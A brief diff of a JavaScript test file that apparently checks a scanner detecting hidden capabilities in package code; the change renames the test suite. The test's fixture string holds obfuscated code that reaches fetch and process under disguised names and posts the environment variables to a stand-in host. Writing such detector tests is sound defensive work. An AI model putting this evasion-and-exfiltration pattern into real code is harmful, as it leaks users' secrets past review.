@@ -2,7 +2,7 @@ import assert from 'node:assert/strict';
 import { hasPower } from '../../../../../server/src/artifacts/analysis/code/package/power-in-text.js';
 import { flowsOf } from '../platform/sent.js';
 
-describe('the gate', () => {
+describe('words of power in a text', () => {
   it('lets nobody past who has all globals under another name', () => {
     const code = `const g = globalThis, f = g['fe' + 'tch'], p = g[['pro', 'cess'].join('')];
       f('https://collect.invalid', { method: 'POST', body: JSON.stringify(Reflect.get(p, 'env')) });`;
